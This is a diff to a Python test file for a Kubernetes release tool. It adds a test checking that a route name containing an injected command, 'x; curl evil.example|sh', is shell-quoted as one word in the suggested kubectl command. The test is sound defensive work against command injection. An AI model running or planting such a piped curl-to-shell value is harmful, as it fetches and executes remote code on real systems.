@@ -23,6 +23,13 @@ def test_a_release_that_waits_for_a_person_says_the_command(phase: str, command:
     assert command in sentence
 
 
+def test_a_name_that_someone_wrote_into_a_status_stays_one_word_of_a_shell() -> None:
+    route = {"route": {"name": "x; curl evil.example|sh"}}
+    stalled = {"Stalled": ("True", "WeightFight")}
+    (sentence,) = next_steps(release(stalled, traffic=route))
+    assert "kubectl get httproute 'x; curl evil.example|sh' -n risk" in sentence
+
+
 def test_a_hold_by_hand_says_the_command_in_any_phase() -> None:
     (sentence,) = next_steps(release(hold={"reason": "WeightLowered"}))
     assert "kubectl surefoot resume fraud -n risk" in sentence
